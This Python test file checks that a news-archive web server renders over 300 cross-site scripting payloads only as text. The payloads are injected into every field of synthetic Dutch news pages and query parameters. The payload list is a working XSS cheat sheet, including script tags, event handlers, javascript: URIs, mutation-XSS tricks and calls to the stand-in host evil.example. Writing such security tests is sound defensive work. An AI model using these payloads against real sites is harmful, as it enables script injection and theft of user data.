"""Stored text is only ever text: 300 and more payloads in every field that a page controls, and every page of the server looked
at. A page may hold only the elements and attributes that the server itself writes (support.Page), links to http(s) or itself,
nothing that loads or runs; and the payloads must be there, as text."""
import html
import json
import re
import unittest
from urllib.parse import quote

from support import SECURITY_HEADERS, Dossier, Page, WithArchive, add

SCRIPTS = ['alert(1)', 'fetch("//evil.example")', 'top.location="//evil.example"', 'document.title=1']
TEMPLATES = [
    '<script>{}</script>', '</script><script>{}</script>', '<script src=//evil.example/x.js></script><!--{}-->', '<img src=x onerror={}>', '<svg onload={}>',
    '<svg><script>{}</script></svg>', '<svg><animate onbegin={} attributeName=x>', '<math><mi//xlink:href="data:x,{}">', '<iframe srcdoc="<script>{}</script>">',
    '<iframe src="javascript:{}">', '<object data="javascript:{}">', '<embed src="javascript:{}">', '<a href="javascript:{}">x</a>', '<a href=" javascript:{}">x</a>',
    '<a href="java&#x09;script:{}">x</a>', '<a href="JaVaScRiPt:{}">x</a>', '<a href="data:text/html,<script>{}</script>">x</a>', '<form action="javascript:{}"><input type=submit>',
    '<button formaction="javascript:{}">x', '<input autofocus onfocus={}>', '<details open ontoggle={}>', '<body onload={}>', '<video><source onerror={}></video>',
    '<audio src=x onerror={}>', '<marquee onstart={}>', '<style>@import "//evil.example/{}";</style>', '<link rel=stylesheet href="//evil.example/{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">', '<base href="//evil.example/{}">', '"><script>{}</script>', "'><script>{}</script>", '"><img src=x onerror={}>',
    '" onmouseover={} x="', "' onmouseover={} x='", '" autofocus onfocus={} "', '`onclick={}`', '--><script>{}</script><!--', ']]><script>{}</script>', '</title><script>{}</script>',
    '</textarea><script>{}</script>', '</style><script>{}</script>', '</noscript><script>{}</script>', '</template><img src=x onerror={}>', '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<svg></p><style><g title="</style><img src=x onerror={}>">', '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={}>">',
    '<<script>{}//<</script>', '<scr<script>ipt>{}</scr</script>ipt>', '<ScRiPt >{}</sCrIpT>', '<script/x>{}</script>', '<script\t>{}</script\n>', '<img/src="x"/onerror={}>',
    '<img src=x onerror&#61;{}>', '<x onclick={}>x', '<x contenteditable onblur={}>x', '<xss style="animation-name:x" onanimationstart={}>', '&lt;script&gt;{}&lt;/script&gt;',
    '&#60;script&#62;{}&#60;/script&#62;', '\u003cscript\u003e{}\u003c/script\u003e', '\uff1cscript\uff1e{}\uff1c/script\uff1e', '{{{{constructor.constructor("{}")()}}}}', '${{{}}}', '<%= {} %>',
    '#{{{}}}', "';{};//", '";{};//', '\\";{};//', '</script>{}', '\u2028{}\u2029', '\u202e{}\u202c', '<plaintext>{}', '<xmp>{}', '<!doctype html><script>{}</script>', '<?xml version="1.0"?><script>{}</script>',
    '<![CDATA[<script>{}</script>]]>', 'javascript:{}', 'JAVASCRIPT:{}', 'data:text/html,{}', 'vbscript:{}', '//evil.example/{}', 'https://evil.example/"onclick={}']
PAYLOADS = [template.format(script) for template in TEMPLATES for script in SCRIPTS]


def page_of(number, payload):
    """A news page with the payload in every field that kroniek reads."""
    text = html.escape(payload)
    data = json.dumps({
        '@context': 'https://schema.org', '@type': 'NewsArticle', 'headline': f'{payload} kop {number}', 'description': f'{payload} inleiding',
        'author': [{'@type': 'Person', 'name': f'{payload}'}, {'@type': 'Person', 'name': 'Ann Peeters'}], 'publisher': {'@type': 'Organization', 'name': f'{payload} krant'},
        'datePublished': '2022-11-09', 'articleSection': payload, 'keywords': [payload], 'inLanguage': 'nl', 'url': payload,
        'image': {'@type': 'ImageObject', 'url': payload, 'caption': payload}}).replace('<', '\\u003c')
    return (f'<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>{text} kop {number}</title><link rel="canonical" href="{text}">'
            f'<meta property="og:site_name" content="{text} krant"><meta name="author" content="{text}"><meta name="description" content="{text}">'
            f'<meta property="article:published_time" content="2022-11-09T18:05:00+01:00"><meta property="article:section" content="{text}">'
            f'<script type="application/ld+json">{data}</script></head><body><article><h1>{text} kop {number}</h1>'
            f'<p class="standfirst">{text} is de inleiding van bericht {number}, die vertelt wat er woensdag gebeurde in Cherson.</p>'
            f'<p class="byline">Door {text}</p>'
            f'<p>President Vladimir Poetin zei woensdag in Moskou: “{text} is een goede zaak voor iedereen”, meldt {text} aan de pers van de stad.</p>'
            f'<p>Volgens burgemeester Jan {text} Peeters van {text} zijn er minstens twee doden gevallen bij de brug over het kanaal.</p>'
            f'<h2>{text}</h2><ul><li>{text} is het eerste punt van de lijst die de stad woensdag bekend maakte</li><li>tweede punt</li></ul>'
            f'<blockquote>{text} staat in een citaat dat lang genoeg is om als citaat te worden gelezen</blockquote>'
            f'<table><tr><th>{text}</th><td>een</td></tr><tr><td>{text}</td><td>twee</td></tr></table>'
            f'<figure><img src="{text}" alt="{text}"><figcaption>{text}. Foto: {text}</figcaption></figure>'
            f'<p><a href="{text}">KIJK. {text}</a></p><p>LEES OOK. <a href="{text}">{text}</a></p>'
            f'<div class="social-embed consent"><p>Je kan deze inhoud niet bekijken. Deze inhoud bevat cookies van {text}. Aanvaard de cookies om de inhoud te tonen.</p></div>'
            f'<p>De brug blijft dicht tot zaterdag, zegt de stad in een mededeling van woensdag over {text} en de werken aan het kanaal.</p>'
            f'</article></body></html>')


class Injection(WithArchive):
    @classmethod
    def make_archive(cls, archive):
        pages = cls.folder / 'pages'
        pages.mkdir()
        for number, payload in enumerate(PAYLOADS):
            (pages / f'{number:04}.html').write_text(page_of(number, payload), encoding='utf-8')
        add(archive, pages)

    def test_enough_payloads(self):
        self.assertGreaterEqual(len(set(PAYLOADS)), 300)

    def check(self, target):
        answer = self.get(target)
        self.assertEqual(answer.status, 200, target)
        for name, value in SECURITY_HEADERS.items():
            self.assertEqual(answer.headers.get(name), value)
        page = Page(answer.body.decode('utf-8'))
        self.assertEqual(page.wrong, [], target)
        self.assertLessEqual(set(page.scripts), {'/assets/app.js'})
        return page

    def test_articles(self):
        versions = self.versions()
        self.assertGreaterEqual(len(versions), 300)
        shown = 0
        for version in versions:
            page = self.check(f'/article/{version}')
            article = self.get(f'/api/articles/{version}').json()
            seen = ''.join(''.join(page.text).split())
            shown += ''.join((article['title'] or '').split()) in seen
            for link in page.links:
                self.assertFalse(link.lower().lstrip().startswith(('javascript:', 'data:', 'vbscript:', '//')), link)
        self.assertGreater(shown, 0.95 * len(versions))

    def test_lists(self):
        versions = self.versions()
        for target in ('/', '/entities', '/quotes', '/events', '/stories?least=1', '/places', '/timeline', '/?q=kop', '/?q=date:..&order=newest', '/?q=script+OR+alert+OR+img'):
            for _ in range(12):
                page = self.check(target)
                following = [link for link in page.links if 'page=' in link]
                if not following:
                    break
                target = following[-1]
        for version in versions[::10]:
            self.check(f'/article/{version}/versions')
            self.check(f'/article/{version}/diff/{versions[0]}')

    def test_dossiers(self):
        versions = self.versions()
        for first in range(0, len(versions), 100):
            some = ','.join(str(version) for version in versions[first:first + 100])
            answer = self.get(f'/api/export?versions={some}&format=dossier&title=' + quote(PAYLOADS[first % len(PAYLOADS)], safe=''))
            self.assertEqual(answer.status, 200)
            page = Dossier(answer.body.decode('utf-8'))
            self.assertEqual(page.wrong, [])
            self.assertEqual(len([link for link in page.links if re.fullmatch('#s[0-9]+', link)]), len(versions[first:first + 100]))
            self.assertIn('alert(1)', ''.join(page.text))

    def test_timelines_are_html_without_anything_that_runs(self):
        for slide in self.get('/api/export?q=kop&format=timelinejs').json()['events']:
            for part in slide['text'].values():
                page = Dossier(part)
                page.wrong += [f'<{tag}>' for tag in re.findall(r'<([a-z]+)', part) if tag not in ('p', 'a', 'mark')]
                self.assertEqual(page.wrong, [])

    def test_what_is_asked_comes_back_as_text(self):
        for payload in PAYLOADS:
            for target in ('/?q=', '/quotes?by=', '/events?actor=', '/events?type=', '/entities?name=', '/entity/', '/nope/', '/timeline?q=', '/article?url=', '/?page=', '/?ui='):
                answer = self.get(target + quote(payload.replace('\n', ' '), safe=''))
                self.assertLess(answer.status, 500)
                if answer.status == 303:  # the address of one of the pages
                    self.assertRegex(answer.headers['location'], r'^/article/\d+$')
                    continue
                self.assertEqual(answer.media_type(), 'text/html')
                self.assertEqual(Page(answer.body.decode('utf-8')).wrong, [], (target, payload))

    def test_json_is_never_taken_for_a_page(self):
        for target in ('/api/search?q=script', '/api/query?q=' + quote('<script>'), '/api/entities', '/api/nope/<script>'.replace('<', '%3C')):
            answer = self.get(target)
            self.assertEqual(answer.media_type(), 'application/json')
            self.assertEqual(answer.headers['x-content-type-options'], 'nosniff')


if __name__ == '__main__':
    unittest.main()
